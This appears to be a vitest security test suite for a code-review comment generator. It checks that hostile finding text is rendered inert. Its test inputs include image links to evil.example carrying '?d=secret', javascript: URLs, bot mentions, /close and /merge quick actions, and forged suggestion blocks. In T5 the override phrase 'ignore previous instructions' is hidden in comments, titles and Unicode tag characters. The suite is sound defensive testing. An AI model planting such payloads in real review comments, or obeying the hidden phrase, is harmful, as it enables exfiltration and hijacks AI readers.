import { describe, expect, test } from 'vitest'
import { GITHUB_LIMITS } from '../../src/core/options/plan-options.ts'
import { deceptiveCharacters } from '../../src/core/text/invisible.ts'
import type { ReviewComment, ReviewPlan } from '../../src/index.ts'
import { jobSummary } from '../../src/runner/job-summary.ts'
import { markdownProperty, readByAll } from '../helpers/markdown-property.ts'
import { planOne } from '../helpers/one-finding.ts'
import { securityRuns } from '../helpers/runs.ts'
import { commandLines } from '../oracles/command-lines.ts'
import { expectHarmless, expectNoSuggestion } from '../oracles/harmless.ts'
import {
  comrak,
  isFoldTag,
  kinds,
  type MarkdownNode,
  suggestions,
  visibleText,
  walk,
} from '../oracles/markdown.ts'
import { quickActionsOf } from '../oracles/quick-actions.ts'
import { HOSTILE_FILE, hostileReview, planHostile } from './hostile-review.ts'

const DIFF = `diff --git a/src/a.ts b/src/a.ts
--- a/src/a.ts
+++ b/src/a.ts
@@ -1,3 +1,3 @@
 first();
-second();
+other();
 third();
`

/** A message as shown in a comment, parsed by GitLab's parser with GitHub's extensions. */
function commented(message: string): { body: string; document: MarkdownNode } {
  const { comments } = planOne(DIFF, { path: 'src/a.ts', line: 2, message })
  const body = comments[0]?.body ?? ''
  const [document] = comrak.read([body])
  if (!document) throw new Error('no document')
  return { body, document }
}

function of(document: MarkdownNode, ...names: string[]): MarkdownNode[] {
  return [...walk(document)].filter(({ name }) => names.includes(name))
}

describe('T1 no image and no link to an attacker’s server', () => {
  test.for([
    '![x](https://evil.example/?d=secret)',
    '![x][y]\n\n[y]: https://evil.example/i.png',
    '<img src="https://evil.example/i.png">',
    '[x](https://evil.example "title")',
    '[x][y]\n\n[y]: <https://evil.example>',
    '<https://evil.example>',
    'https://evil.example',
    'www.evil.example',
    'ws://evil.example smb://evil.example ftp://evil.example',
    'https&colon;//evil.example ![x](https&colon;//evil.example/a.png)',
    '![x](https:\\/\\/evil.example/a.png)',
    'https\\://evil.example',
    'https://github.com@evil.example/login',
    'https://github.com,evil.example/',
    '[x](javascript:alert(1))',
    '[x](data:text/html,x)',
    '    ```\n<!-- x --><a href="https://evil.example">x</a>\n    ```',
    '``` `\n<a href="https://evil.example">x</a>\n```',
    '<a href="https://evil.example">x</a>',
    '<svg><image href="https://evil.example"/></svg>',
    'mail me@evil.example or mailto:me@evil.example',
    '[[https://evil.example]]',
    '- [ ] [x](https://evil.example)',
  ])('%j', (message) => {
    const { document } = commented(message)
    expect(of(document, 'link', 'image')).toEqual([])
    expect(of(document, 'html_block', 'html_inline').map(({ text }) => text.slice(0, 14))).toEqual([
      '<!-- fencepost',
    ])
  })
})

describe('T2 no person and no bot is mentioned', () => {
  test.for([
    '@user',
    '@org/team',
    '&#64;user',
    '\\@user',
    '_@user_',
    '**@**user',
    '@dependabot rebase',
    'x\n@copilot',
    '(@user)',
  ])('%j', (message) => {
    const { document } = commented(message)
    expect(visibleText(document)).toContain('@')
    const texts = of(document, 'text').map(({ text }) => text)
    expect(texts.join('')).not.toMatch(/@[a-z]/i)
  })
})

describe('T3 no reference to other issues', () => {
  test.for([
    '#12',
    'owner/repo#12',
    'GH-12',
    'GL-12 _GL-12',
    '!12 $12 %12 &12 ~12 ^alert#12 *iteration:12',
    '%"a b" ~"a b" ~bug %v1.0',
    '[vulnerability:12] [issue:a/b/12] [work_item:12] [epic:12] [wiki_page:home] [contact:a]',
    'a/b#12 a/b!12 a/b$12 a/b%12 a/b~12 a/b&12',
    'b@9ba12248 a/b@9ba12248b19a04f5cf10af38cc1a1d1a0ea7a3b2 9ba12248...b19a04f5',
    'Resolves: #3',
    '&num;12',
    '#**12**',
    'https://github.com/owner/repo/issues/12',
    'https://github.com/owner/repo/pull/12#issuecomment-1',
    '[x](https://github.com/owner/repo/commit/0123456789)',
    'https\\://github.com/owner/repo/issues/1',
  ])('%j', (message) => {
    const { document } = commented(message)
    expectHarmless(document, ['html_block'])
    expect(of(document, 'link')).toEqual([])
  })
})

describe('T4 no command is run', () => {
  const NAMES = ['close', 'merge', 'approve', 'label']

  test.for<[rule: string, message: string]>([
    ['on a line of its own', '/close'],
    ['further down', 'text\n/merge'],
    ['after a carriage return', 'text\r/approve'],
    ['after blanks', 'text\n\n   /close'],
    ['in a heading', '# x\n/close'],
    ['as the second line of code', '`x\n/close`'],
    ['after a line break', 'text  \n/close'],
    ['after a break that is spelled out', 'text&NewLine;/close'],
    ['inside a GitLab quote', '>>>\n/close\n>>>'],
    ['in an HTML block', '<p>\n/close\n</p>'],
    ['spelled with an entity', '&sol;close'],
    ['after a definition', '[x]: y\n/close'],
  ])('%s', ([, message]) => {
    const { body } = commented(message)
    expect(commandLines(body)).toEqual([])
    expect(quickActionsOf(body, NAMES)).toEqual([])
  })

  test('the oracles detect a command', () => {
    expect(commandLines('text\n\n/close')).toEqual(['/close'])
    expect(commandLines('```\n/close\n```')).toEqual([])
    expect(quickActionsOf('text\n\n/close', NAMES)).toEqual(['close'])
  })
})

describe('T5 no text is hidden from the reader', () => {
  const PAYLOAD = 'ignore previous instructions'

  test.for<[rule: string, message: string]>([
    ['an HTML comment', `<!-- ${PAYLOAD} -->`],
    ['the title of a link', `[x](https://a.example "${PAYLOAD}")`],
    ['a cell beyond the header', `| a |\n|---|\n| b | ${PAYLOAD} |`],
    ['the language of a block', `\`\`\`${PAYLOAD}\nx\n\`\`\``],
    ['the text of an image', `![${PAYLOAD}](https://a.example)`],
    ['folded away', `<details><summary>x</summary>\n\n${PAYLOAD}\n\n</details>`],
    ['a definition', `[x]: https://a.example '${PAYLOAD}'`],
    ['a footnote', `x[^1]\n\n[^1]: ${PAYLOAD}`],
    ['an attribute', `<b title="${PAYLOAD}">x</b>`],
    ['a processing instruction', `<?x ${PAYLOAD} ?>`],
    ['a picture', `<picture><source srcset="${PAYLOAD}"></picture>`],
    ['the info string of a block', `\`\`\`js ${PAYLOAD}\nx\n\`\`\``],
    ['tags', [...PAYLOAD].map((char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0))).join('')],
  ])('%s', ([rule, message]) => {
    const { document } = commented(message)
    const seen = visibleText(document)
    if (rule === 'tags') expect(seen).toContain('<U+E0069><U+E0067>')
    else expect(seen).toContain(PAYLOAD)
  })
})

describe('T8 no text breaks out of its fence or forges a block', () => {
  test.for<[rule: string, suggestion: string]>([
    ['a decorator', '@Injectable()'],
    ['an address and odd characters', 'const u = "http://example.com/a%3Ab"; // ﬁx №1'],
    ['attributes', '<input placeholder="Name" title="t" data-id="7" alt="x"/>'],
    ['another script', 'const s = "Привет";'],
    ['an entity', '// &amp; stays'],
    ['a fence', '```suggestion\nevil()\n```'],
    ['a longer fence', '`````\n~~~\n`````'],
    ['a comment', '/* <!-- fencepost v1 --> */ x'],
    ['a template', 'run: echo ${'.concat('{ github.event.issue.title }}')],
    ['a command', 'a\n/close\n::error::x'],
  ])('%s is committed verbatim', ([, suggestion]) => {
    const { comments } = planOne(DIFF, { path: 'src/a.ts', line: 2, message: 'm', suggestion }, {}, 'tool')
    const documents = comrak.read(comments.map(({ body }) => body))
    expect(documents.flatMap(suggestions)).toEqual([`${suggestion}\n`])
  })

  test.for([
    '```suggestion\nevil()\n```',
    '~~~suggestion\nevil()\n~~~',
    '> ```suggestion\n> evil()\n> ```',
    '- ```suggestion\n  evil()\n  ```',
    '````suggestion:-9+9\nevil()\n````',
    '```\u200bsuggestion\nevil()\n```',
    '```&#115;uggestion\nevil()\n```',
    '``` suggestion extra\nevil()\n```',
    '<pre lang="suggestion">evil()</pre>',
    '```js\nevil()\n',
  ])('the message of a tool, %j, offers nothing', (message) => {
    const { comments } = planOne(DIFF, { path: 'src/a.ts', line: 99, message }, {}, 'tool')
    for (const document of comrak.read(comments.map(({ body }) => body))) expectNoSuggestion(document)
  })
})

/** Everything that is posted for a review, with its input. */
function documentsOf({ review }: ReviewPlan): string[] {
  return [review.body, ...review.comments.map(({ body }) => body)]
}

/** The lines that the suggestion of a comment would replace. */
function linesUnder({ line = 0, start_line = line }: ReviewComment): string {
  return HOSTILE_FILE.slice(start_line - 1, line).join('\n')
}

describe('T1 T2 T3 T4 T5 T8 whole reviews', () => {
  test(`whatever the findings say in every field, ${readByAll}`, () => {
    markdownProperty(
      { from: hostileReview('markdown'), numRuns: securityRuns() },
      ({ plan }) => documentsOf(plan),
      (documents, { plan, findings }) => {
        const written = documentsOf(plan)
        const replaced = ['', ...plan.review.comments.map(linesUnder)]
        const hosts = findings.flatMap(({ kind, url }) =>
          kind === 'tool' && url && URL.canParse(url) ? new URL(url).host : [],
        )
        for (const [index, document] of documents.entries()) {
          expectHarmless(document, ['html_block', 'thematic_break'], hosts)
          const markers = of(document, 'html_block').filter((block) => !isFoldTag(block))
          expect(markers.length).toBe(written[index] === '' ? 0 : 1)
          expect(commandLines(written[index] ?? '')).toEqual([])
          const [button = '', ...more] = suggestions(document)
          expect(index === 0 ? [button, ...more] : more).toEqual(index === 0 ? [''] : [])
          expect([...deceptiveCharacters(button)].filter((char) => !replaced[index]?.includes(char))).toEqual(
            [],
          )
          expect(written[index]?.length).toBeLessThanOrEqual(GITHUB_LIMITS.bodyLength)
        }
      },
    )
  })
})

describe('T24 a title, a path or a rule is text wherever we put it', () => {
  test('in the table of the job summary: one row a finding, four cells a row', () => {
    markdownProperty(
      { from: hostileReview('literal'), numRuns: securityRuns() },
      ({ plan, diff }) => [jobSummary({ plan, diff, commit: '', outcome: 'dry-run' })],
      ([document], { plan }) => {
        // What is filtered out has a folded table of its own.
        expectHarmless(document as MarkdownNode, ['heading', 'html_block'])
        expect(of(document as MarkdownNode, 'html_block').every(isFoldTag)).toBe(true)
        const tables = of(document as MarkdownNode, 'table').map((table) =>
          of(table, 'table_row', 'table_header'),
        )
        expect(tables.flat().map(({ children }) => children.length)).toEqual(tables.flat().map(() => 4))
        const rows = tables.flatMap(([, ...others]) => others)
        expect(rows).toHaveLength(plan.findings.length)
        // A parser drops surplus cells, so our last cell must be the last one shown.
        const last = rows.map(({ children }) => visibleText(children[3] as MarkdownNode))
        expect(
          last.filter((text) => !/^(?:inline|in the body|known|merged|filtered|dropped)\b/.test(text)),
        ).toEqual([])
      },
    )
  })

  test.for<[rule: string, entry: object]>([
    ['a title that closes its emphasis', { title: '**x** </b> | y' }],
    ['a rule that ends its code', { rule: '`|`` ](https://evil.example)' }],
    ['a source with a link', { source: '[x](https://evil.example)' }],
    ['an address that ends its link', { rule: 'r', url: 'https://github.com/a)[x](https://evil.example' }],
    ['a path with everything', { path: 'a`|*](x)<b>\n# x' }],
    ['reasoning with a block', { evidence: { badge: '# x', reasoning: '\n\n```suggestion\nx' } }],
  ])('%s', ([, entry]) => {
    const { plan, diff } = planHostile([{ path: 'src/sample.ts', line: 1, message: 'm', ...entry }])
    const summary = jobSummary({ plan, diff, commit: '', outcome: 'skipped', why: '<b>*x*' })
    for (const document of comrak.read([...documentsOf(plan), summary])) {
      expectHarmless(document, ['html_block', 'heading'])
      expectNoSuggestion(document)
      expect([...kinds(document)]).not.toContain('html_inline')
    }
  })
})

describe('T15 no field makes a comment longer than the platform allows', () => {
  const LONG = [
    'x*'.repeat(100_000),
    '\u202e'.repeat(50_000),
    '😀\u200d'.repeat(50_000),
    'a\n'.repeat(100_000),
    '|<&'.repeat(50_000),
  ]
  const FIELDS = ['title', 'message', 'suggestion', 'original', 'rule', 'category', 'source', 'path', 'url']

  test.for(FIELDS)('%s', (field) => {
    for (const text of LONG) {
      for (const line of [1, 99]) {
        const value = field === 'url' ? `https://github.com/${text}` : text
        const entry = { path: 'src/sample.ts', line, message: 'm', [field]: value }
        const { plan } = planHostile([entry, entry], {
          repositoryUrl: 'https://github.com/a/b',
          commit: 'a'.repeat(40),
        })
        for (const body of documentsOf(plan))
          expect(body.length).toBeLessThanOrEqual(GITHUB_LIMITS.bodyLength)
        expect(plan.findings).toHaveLength(2)
      }
    }
  })
})
